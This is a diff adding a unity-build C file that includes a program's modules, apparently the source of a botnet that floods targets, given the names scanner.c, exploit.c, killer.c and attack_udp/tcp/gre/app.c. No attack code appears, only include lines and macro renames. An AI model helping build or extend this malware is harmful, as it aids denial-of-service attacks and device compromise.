@@ -1,0 +1,24 @@
+/* The whole program as one translation unit, so that the compiler can inline across modules. */
+#include "inert.c"
+#include "table.c"
+#include "util.c"
+#include "rand.c"
+#include "checksum.c"
+#include "resolver.c"
+#include "killer.c"
+#include "scanner.c"
+#include "exploit.c"
+#include "attack.c"
+#include "attack_app.c"
+#include "attack_gre.c"
+#define fill_headers fill_udp_headers
+#define finish finish_udp
+#include "attack_udp.c"
+#undef finish
+#define fill_ip fill_tcp_ip
+#define finish finish_tcp
+#include "attack_tcp.c"
+#ifdef BALLAST
+#include "ballast.c"
+#endif
+#include "main.c"
